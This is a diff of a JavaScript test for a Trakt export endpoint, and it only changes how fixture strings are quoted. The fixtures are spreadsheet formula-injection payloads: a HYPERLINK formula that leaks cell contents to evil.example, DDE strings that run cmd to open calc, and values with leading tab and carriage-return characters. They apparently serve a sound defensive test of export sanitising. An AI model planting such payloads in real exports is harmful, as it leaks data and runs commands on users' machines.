@@ -809,9 +809,9 @@ describe('GET /trakt/export/', () => {
     // Community-edited titles from Trakt, as the simulator serves them.
     const formulas = {
       movie0: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the trailer")',
-      movie1: '+cmd|\' /C calc\'!A0',
+      movie1: "+cmd|' /C calc'!A0",
       movie2: '-2+3',
-      movie3: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      movie3: "@SUM(1+1)*cmd|' /C calc'!A0",
       show0: '\tTabbed =1+1',
       show1: '\rCarriage =1+1',
     };
